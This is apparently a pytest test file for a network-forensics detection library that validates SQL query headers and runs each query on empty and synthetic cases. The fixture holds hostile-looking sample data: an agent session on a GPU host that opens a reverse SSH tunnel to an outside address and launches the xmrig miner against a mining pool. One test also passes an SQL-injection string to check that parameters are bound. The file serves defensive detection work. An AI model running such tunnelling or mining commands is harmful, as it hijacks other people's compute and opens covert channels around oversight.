"""Every query file, checked the same way: header, parameters, output, empty and loaded cases."""

from __future__ import annotations

from pathlib import Path

import pytest

import forensics
from forensics import queries, schema
from forensics.errors import UnknownNameError, UsageError
from forensics.queries.header import FINDING_COLUMNS, PHASES, parse_query, sql_params
from forensics.queries.prepare import prepare
from forensics.queries.runner import build_sql, normalise_type, output_problems
from tests.conftest import CORPUS, corpus_dir
from tests.query_fixtures import CONFIG, at, conn, insert, load_zeek

QUERY_FILES = sorted(queries.queries_dir().glob("*.sql"))
NAMES = [p.stem for p in QUERY_FILES]
REFERENCE = {f"ref_{p.stem}" for p in (queries.queries_dir() / "reference").glob("*.csv")}
LIBRARY_TABLES = {"addr_scope", "flows", "events"} | REFERENCE
DECLARED = {t.name: t for t in schema.ALL_TABLES}


def test_there_are_queries_for_every_phase():
    assert {q.phase for q in queries.list_queries()} == set(PHASES)


@pytest.mark.parametrize("path", QUERY_FILES, ids=NAMES)
def test_header_is_valid(path: Path):
    query, issues = parse_query(path)
    assert issues == [] and query is not None
    assert sql_params(query.body) == {p.name for p in query.params}
    for use in query.tables:
        assert (use.name in DECLARED or use.name.startswith("zeek_")
                or use.name in LIBRARY_TABLES), use.name
        if use.name in DECLARED:  # declared tables always exist: types must match schema.py
            for col in use.columns:
                assert normalise_type(col.type) == normalise_type(
                    DECLARED[use.name].column(col.name).type.replace(" NOT NULL", "")), col
    if query.kind == "detection":
        assert [c.name for c in query.output[:len(FINDING_COLUMNS)]] == [
            c[0] for c in FINDING_COLUMNS]


def _check_output(case, name):
    query = queries.get_query(name)
    values = {p.name: p.default for p in query.params}
    prepare(case.con, queries.queries_dir(), queries._state(case))
    sql, _notes, _missing = build_sql(query, case.con)
    if sql is not None:
        assert output_problems(query, case.con, sql, values) == []
    result = queries.run_result(case, name)
    assert result.frame.columns == [c.name for c in query.output]
    for col in query.output:  # the frame has the declared type (via Arrow) even when empty
        assert str(result.frame.schema[col.name]) != "Null", col.name
    if query.kind == "detection":
        frame = result.frame
        assert frame.filter((frame["score"] < 0) | (frame["score"] > 1)).height == 0
        assert set(frame["severity"].to_list()) <= {"low", "medium", "high"}
        assert set(frame["phase"].to_list()) <= {query.phase}
        for row in frame.iter_rows(named=True):
            assert row["signals"], row["summary"]
            assert 0 < len(row["evidence"]) <= 50 and row["evidence_count"] >= len(row["evidence"])
            # ts_start may be NULL only when no evidence row has a time (an unconfirmed
            # transaction); then ts_end is NULL too and the timeline lists it as undated
            assert row["summary"] and (row["ts_start"] is not None or row["ts_end"] is None)
    return result


@pytest.mark.parametrize("name", NAMES)
def test_runs_on_an_empty_case(name):
    with forensics.open_case(":memory:") as case:
        result = _check_output(case, name)
        assert result.frame.height == 0


@pytest.fixture(scope="module")
def loaded_case(tmp_path_factory):
    """Every declared table and the common Zeek logs with a little data each."""
    case = forensics.open_case(":memory:")
    case.configure(CONFIG)
    d = tmp_path_factory.mktemp("zeek")
    rows = [conn(i, "10.42.7.17", f"10.42.3.{i}", 22, state="S0") for i in range(1, 15)]
    rows += [conn(300 * i, "10.42.7.17", "198.51.100.23", 443, service="ssh", dur=4000)
             for i in range(10)]
    load_zeek(case, d, conn=rows,
              ssh=[[at(0).timestamp(), "Cx", "198.51.100.9", 1, "10.42.0.20", 22, True, 1,
                    "INBOUND", "x"]],
              dns=[[at(0).timestamp(), "Cd", "10.42.7.17", 1, "10.42.0.2", 53, "udp",
                    "pool.supportxmr.com", ["203.0.113.77"]]],
              ssl=[[at(1).timestamp(), "Cs", "10.42.7.17", 1, "203.0.113.77", 443,
                    "gulf.moneroocean.stream"]],
              http=[[at(2).timestamp(), "Ch", "10.42.7.17", 1, "203.0.113.78", 80, "x.example",
                     "/pay?to=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"]])
    insert(case, "firewall_events", [{"ts": at(5), "action": "deny", "src_ip": "10.42.7.17",
                                      "dst_ip": "198.51.100.23", "dst_port": 22}])
    insert(case, "billing_items", [{"charge_period_start": at(86400 * i), "sub_account_id": "a",
                                    "billed_cost": 10 * (1 + (i == 20) * 50), "sku_id": "s"}
                                   for i in range(25)])
    insert(case, "gpu_samples", [{"ts": at(30 * i), "host": "g", "gpu_index": 0,
                                  "utilization_gpu_pct": 99.0, "power_w": 250.0,
                                  "memory_used_mib": 1000.0} for i in range(200)])
    insert(case, "gpu_processes", [{"ts": at(0), "host": "g", "gpu_index": 0, "pid": 1,
                                    "process_name": "xmrig"}])
    insert(case, "agent_actions", [{"ts": at(3), "host": "sb-07",
                                    "command": "send 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}]
           # a short agent session on the GPU host (the attribution questions need one)
           + [{"ts": at(-10 + 2 * i), "host": "g", "run_id": "r1", "actor": "agent",
               "command": c} for i, c in enumerate(
                   ["ls", "nvidia-smi", "ssh -R 2222:localhost:22 tun@198.51.100.23",
                    "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u x"])])
    insert(case, "ledger_transfers", [{"ts": at(4), "chain": "bitcoin", "asset": "BTC",
                                       "from_address": "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
                                       "to_address": "x", "amount": "1.5"}])
    yield case
    case.close()


@pytest.mark.parametrize("name", NAMES)
def test_runs_on_a_loaded_case(loaded_case, name):
    result = _check_output(loaded_case, name)
    if name != "exfil_large_outbound":  # the loaded case has no big upload
        assert result.frame.height > 0, (name, result.notes)


@pytest.mark.corpus
def test_every_query_runs_on_the_whole_corpus():
    corpus_dir("zeek")
    with forensics.open_case(":memory:") as case:
        case.load(CORPUS)
        for name in NAMES:
            _check_output(case, name)


# -- validation and parameters ------------------------------------------------------------

GOOD = '''-- name = "t"
-- title = "t"
-- kind = "question"
-- phase = "recon"
-- attack = ["T1046"]
-- description = "d"
-- [tables.zeek_conn]
-- columns = ["ts TIMESTAMPTZ"]
-- [params.n]
-- type = "int"
-- default = 3
-- meaning = "m"
-- [output]
-- columns = ["ts TIMESTAMPTZ: time"]
SELECT ts FROM zeek_conn LIMIT $n
'''


@pytest.mark.parametrize("change, issue", [
    (("LIMIT $n", "LIMIT $n + $m"), "$m is used in the SQL but not declared"),
    (("LIMIT $n", "LIMIT 3"), "parameter n is declared but the SQL never uses $n"),
    (('phase = "recon"', 'phase = "lunch"'), "phase 'lunch' is not one of"),
    (('["T1046"]', '["X1"]'), "attack must be a non-empty list"),
    (('default = 3', 'default = "three"'), "default 'three' is invalid"),
    (('name = "t"', 'name = "other"'), "must equal the file name"),
    (("SELECT ts", "DELETE FROM zeek_conn; SELECT ts"), "must be one SELECT"),
    (('title = "t"', 'title = "t'), "header is not valid TOML"),
])
def test_invalid_headers_are_reported(tmp_path, change, issue):
    path = tmp_path / "t.sql"
    path.write_text(GOOD)
    assert parse_query(path)[1] == []
    text = GOOD.replace(*change)
    _query, issues = parse_query(path, text)
    assert any(issue in i for i in issues), issues


def test_params_in_comments_and_strings_are_not_params():
    assert sql_params("SELECT '$a', \"$b\" -- $c\n /* $d */ FROM t WHERE x = $e") == {"e"}


def test_unknown_and_invalid_parameters_are_errors(case):
    with pytest.raises(UnknownNameError) as err:
        queries.run(case, "recon_internal_scan", bogus=1)
    assert "min_hosts" in err.value.hint and "idle_minutes" in err.value.hint
    with pytest.raises(UsageError, match="below the minimum"):
        queries.run(case, "recon_internal_scan", min_hosts=0)
    with pytest.raises(UsageError, match="not a valid int"):
        queries.run(case, "recon_internal_scan", min_hosts="ten")
    with pytest.raises(UnknownNameError):
        queries.run(case, "no_such_query")


def test_parameters_are_bound_not_formatted(case):
    # a hostile value is just a value: no SQL runs from it
    frame = queries.run(case, "tunnel_ssh_outbound", source_scopes=["x'); DROP TABLE hosts; --"])
    assert frame.height == 0 and "hosts" in case.tables()


def test_missing_required_table_gives_typed_empty_result_with_note(case):
    result = queries.run_result(case, "beacon_pairs")
    assert not result.ran and result.missing_tables == ["zeek_conn"]
    assert "zeek_conn" in result.notes[0] and result.frame.columns[0] == "host"


def test_missing_columns_are_read_as_null_with_a_note(case, tmp_path):
    (tmp_path / "conn.log").write_text(
        "#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.resp_h\tid.resp_p\n"
        "#types\ttime\taddr\taddr\tport\n1772611200.0\t10.42.7.17\t198.51.100.2\t22\n")
    case.load(tmp_path)
    result = queries.run_result(case, "long_connections")
    assert any("zeek_conn lacks" in n and "duration" in n for n in result.notes)
    assert result.frame.height == 0


def test_addr_scope_agrees_with_the_ip_scope_macro(case, tmp_path):
    case.configure(CONFIG)
    load_zeek(case, tmp_path, conn=[conn(0, "10.42.7.17", ip, 22) for ip in
                                    ("10.42.0.5", "151.101.0.223", "8.8.8.8", "10.42.7.200")])
    queries.run(case, "long_connections")
    rows = case.sql("SELECT ip, scope, ip_scope(ip) AS macro FROM addr_scope").rows()
    assert rows and all(scope == macro for _ip, scope, macro in rows)


def test_run_all_collects_findings_of_every_detection(loaded_case):
    frame = queries.run_all(loaded_case)
    assert {c[0] for c in FINDING_COLUMNS} | {"query"} == set(frame.columns)
    assert frame["query"].n_unique() >= 8


def test_every_query_file_ships_with_a_regular_install():
    """pyproject's data-files copy queries/ to <prefix>/share/forensics/queries, where
    queries_dir() finds them when the package is not run from a checkout."""
    import tomllib
    from pathlib import Path

    repo = Path(__file__).resolve().parent.parent
    spec = tomllib.loads((repo / "pyproject.toml").read_text())["tool"]["setuptools"]
    shipped = {p.resolve() for patterns in spec["data-files"].values()
               for pattern in patterns for p in repo.glob(pattern)}
    wanted = {p.resolve() for p in (repo / "queries").rglob("*") if p.is_file()}
    assert wanted - shipped == set()
